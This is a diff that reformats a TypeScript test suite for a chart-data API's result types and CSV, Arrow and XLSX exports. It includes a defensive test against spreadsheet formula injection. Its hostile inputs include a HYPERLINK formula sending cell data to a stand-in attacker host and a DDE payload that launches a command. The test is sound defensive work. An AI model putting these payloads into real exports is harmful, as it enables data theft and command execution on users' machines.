@@ -4,7 +4,18 @@ import { tableFromIPC } from 'apache-arrow';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { toCsv, toXlsx } from '../../../server/chartdata/serialize';
 import { BUILTIN_TIME_GRAINS } from '../../../src/core/sql';
-import { ENGINES, FIRST_ID, ROWS, eventRows, firstResult, parseBig, qc, rowsOf, startChartDataFixture, type ChartDataFixture } from './fixture';
+import {
+  ENGINES,
+  FIRST_ID,
+  ROWS,
+  eventRows,
+  firstResult,
+  parseBig,
+  qc,
+  rowsOf,
+  startChartDataFixture,
+  type ChartDataFixture,
+} from './fixture';
 
 let f: ChartDataFixture;
 beforeAll(async () => {
@@ -17,8 +28,35 @@ const lastId = FIRST_ID + BigInt(ROWS - 1);
 
 describe.each(ENGINES)('[QC-RT] result types on %s', (engine) => {
   it('full: the whole payload with cache and time fields', async () => {
-    const r = firstResult(await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['count'], orderby: [['count', false]], time_range: 'No filter' })));
-    for (const key of ['cache_key', 'cached_dttm', 'cache_timeout', 'is_cached', 'query', 'status', 'error', 'stacktrace', 'rowcount', 'colnames', 'coltypes', 'data', 'applied_filters', 'rejected_filters', 'annotation_data', 'from_dttm', 'to_dttm']) {
+    const r = firstResult(
+      await f.chartData(
+        qc(f, engine, {
+          columns: ['category'],
+          metrics: ['count'],
+          orderby: [['count', false]],
+          time_range: 'No filter',
+        }),
+      ),
+    );
+    for (const key of [
+      'cache_key',
+      'cached_dttm',
+      'cache_timeout',
+      'is_cached',
+      'query',
+      'status',
+      'error',
+      'stacktrace',
+      'rowcount',
+      'colnames',
+      'coltypes',
+      'data',
+      'applied_filters',
+      'rejected_filters',
+      'annotation_data',
+      'from_dttm',
+      'to_dttm',
+    ]) {
       expect(r, key).toHaveProperty(key);
     }
     expect(r.coltypes).toEqual([1, 0]);
@@ -26,19 +64,34 @@ describe.each(ENGINES)('[QC-RT] result types on %s', (engine) => {
   });
 
   it('coltypes say number, string, temporal and boolean', async () => {
-    const r = firstResult(await f.chartData(qc(f, engine, { columns: ['amount', 'name', 'ts', 'flag'], metrics: [], row_limit: 1 })));
+    const r = firstResult(
+      await f.chartData(qc(f, engine, { columns: ['amount', 'name', 'ts', 'flag'], metrics: [], row_limit: 1 })),
+    );
     expect(r.coltypes).toEqual([0, 1, 2, 3]);
     expect(typeof r.data[0]?.ts).toBe('number');
   });
 
   it('samples: dataset rows, no metrics', async () => {
-    const r = firstResult(await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['count'], row_limit: 7 }, { result_type: 'samples' })));
+    const r = firstResult(
+      await f.chartData(
+        qc(f, engine, { columns: ['category'], metrics: ['count'], row_limit: 7 }, { result_type: 'samples' }),
+      ),
+    );
     expect(r.colnames).toEqual(['id', 'ts', 'category', 'name', 'amount', 'qty', 'flag', 'double_qty']);
     expect(r.rowcount).toBe(7);
   });
 
   it('drill_detail: dataset rows under the filters, ordered by the first column', async () => {
-    const r = firstResult(await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['count'], filters: [{ col: 'category', op: '==', val: 'beta' }] }, { result_type: 'drill_detail' })));
+    const r = firstResult(
+      await f.chartData(
+        qc(
+          f,
+          engine,
+          { columns: ['category'], metrics: ['count'], filters: [{ col: 'category', op: '==', val: 'beta' }] },
+          { result_type: 'drill_detail' },
+        ),
+      ),
+    );
     expect(r.rowcount).toBe(eventRows().filter((x) => x.category === 'beta').length);
     expect(r.data.every((x) => x.category === 'beta')).toBe(true);
     const ids = r.data.map((x) => x.id as bigint);
@@ -46,7 +99,14 @@ describe.each(ENGINES)('[QC-RT] result types on %s', (engine) => {
   });
 
   it('query: the SQL with values inlined, nothing executed', async () => {
-    const res = await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['count'], filters: [{ col: 'name', op: '==', val: "O'Brien" }] }, { result_type: 'query' }));
+    const res = await f.chartData(
+      qc(
+        f,
+        engine,
+        { columns: ['category'], metrics: ['count'], filters: [{ col: 'name', op: '==', val: "O'Brien" }] },
+        { result_type: 'query' },
+      ),
+    );
     const r = parseBig<{ result: Array<{ language: string; query: string }> }>(res.body).result[0];
     expect(r?.language).toBe('sql');
     expect(r?.query).toContain("'O''Brien'");
@@ -72,7 +132,16 @@ describe.each(ENGINES)('[QC-RT] result types on %s', (engine) => {
   });
 
   it('post_processed: the full payload after table post-processing', async () => {
-    const r = firstResult(await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['total_amount'], orderby: [['total_amount', false]] }, { result_type: 'post_processed', form_data: { viz_type: 'table' } })));
+    const r = firstResult(
+      await f.chartData(
+        qc(
+          f,
+          engine,
+          { columns: ['category'], metrics: ['total_amount'], orderby: [['total_amount', false]] },
+          { result_type: 'post_processed', form_data: { viz_type: 'table' } },
+        ),
+      ),
+    );
     expect(r.status).toBe('success');
     expect(r.data.map((x) => x.category)).toEqual(['gamma', 'beta', 'alpha', null]);
   });
@@ -90,7 +159,14 @@ describe.each(ENGINES)('[QC-RF] result formats on %s', (engine) => {
   });
 
   it('csv has verbose headers and exact big integers', async () => {
-    const res = await f.chartData(qc(f, engine, { columns: ['category'], metrics: ['total_amount', 'max_id'], orderby: [['total_amount', false]] }, { result_format: 'csv' }));
+    const res = await f.chartData(
+      qc(
+        f,
+        engine,
+        { columns: ['category'], metrics: ['total_amount', 'max_id'], orderby: [['total_amount', false]] },
+        { result_format: 'csv' },
+      ),
+    );
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toContain('text/csv');
     const lines = res.body.trim().split('\n');
@@ -112,7 +188,14 @@ describe.each(ENGINES)('[QC-RF] result formats on %s', (engine) => {
   });
 
   it('arrow is an IPC stream with int64 ids exact and timestamps', async () => {
-    const res = await f.chartData(qc(f, engine, { columns: ['id', 'ts', 'amount', 'flag'], metrics: [], orderby: [['id', true]], row_limit: 1000 }, { result_format: 'arrow' }));
+    const res = await f.chartData(
+      qc(
+        f,
+        engine,
+        { columns: ['id', 'ts', 'amount', 'flag'], metrics: [], orderby: [['id', true]], row_limit: 1000 },
+        { result_format: 'arrow' },
+      ),
+    );
     expect(res.headers['content-type']).toBe('application/vnd.apache.arrow.stream');
     const table = tableFromIPC(res.rawPayload);
     expect(table.numRows).toBe(ROWS);
@@ -131,23 +214,55 @@ describe.each(ENGINES)('[QC-RF] result formats on %s', (engine) => {
   });
 
   it('same rows through json and arrow', async () => {
-    const query = { columns: ['category', 'qty'], metrics: ['count', 'total_amount'], orderby: [['total_amount', false], ['qty', true]], row_limit: 100 };
+    const query = {
+      columns: ['category', 'qty'],
+      metrics: ['count', 'total_amount'],
+      orderby: [
+        ['total_amount', false],
+        ['qty', true],
+      ],
+      row_limit: 100,
+    };
     const json = firstResult(await f.chartData(qc(f, engine, query)));
     const arrow = tableFromIPC((await f.chartData(qc(f, engine, query, { result_format: 'arrow' }))).rawPayload);
-    const fromArrow = arrow.toArray().map((row: Record<string, unknown>) => json.colnames.map((c) => (typeof row[c] === 'bigint' ? Number(row[c]) : row[c])));
+    const fromArrow = arrow
+      .toArray()
+      .map((row: Record<string, unknown>) =>
+        json.colnames.map((c) => (typeof row[c] === 'bigint' ? Number(row[c]) : row[c])),
+      );
     expect(fromArrow).toEqual(rowsOf(json));
   });
 });
 
 describe('hole 5: CSV and XLSX exports never write a cell a spreadsheet runs as a formula', () => {
-  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', 'plain', '-12.5', 'a=b'];
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\tx',
+    '\rx',
+    'plain',
+    '-12.5',
+    'a=b',
+  ];
   const result = {
     names: ['text', 'amount', '=header'],
     types: ['VARCHAR', 'DOUBLE', 'VARCHAR'],
     columns: [hostile, hostile.map((_, i) => -1 - 1.5 * i), hostile.map(() => null)],
     rowCount: hostile.length,
   };
-  const expected = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\rx", 'plain', '-12.5', 'a=b'];
+  const expected = [
+    '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "'+1+cmd|' /C calc'!A0",
+    "'-2+3",
+    "'@SUM(A1:A9)",
+    "'\tx",
+    "'\rx",
+    'plain',
+    '-12.5',
+    'a=b',
+  ];
 
   it('csv: text starting with = + - @ tab or CR gets a leading quote; numbers and negative numbers in text stay as they are', () => {
     const text = toCsv(result);
@@ -171,6 +286,7 @@ describe('hole 5: CSV and XLSX exports never write a cell a spreadsheet runs as 
     const lf = (v: unknown): string => String(v).replace(/\r/g, '\n');
     expect(hostile.map((_, i) => lf(sheet?.getRow(i + 2).getCell(1).value))).toEqual(expected.map(lf));
     expect(hostile.map((_, i) => sheet?.getRow(i + 2).getCell(2).value)).toEqual(hostile.map((_, i) => -1 - 1.5 * i));
-    for (let r = 1; r <= hostile.length + 1; r++) for (let c = 1; c <= 3; c++) expect(sheet?.getRow(r).getCell(c).formula).toBeUndefined();
+    for (let r = 1; r <= hostile.length + 1; r++)
+      for (let c = 1; c <= 3; c++) expect(sheet?.getRow(r).getCell(c).formula).toBeUndefined();
   });
 });
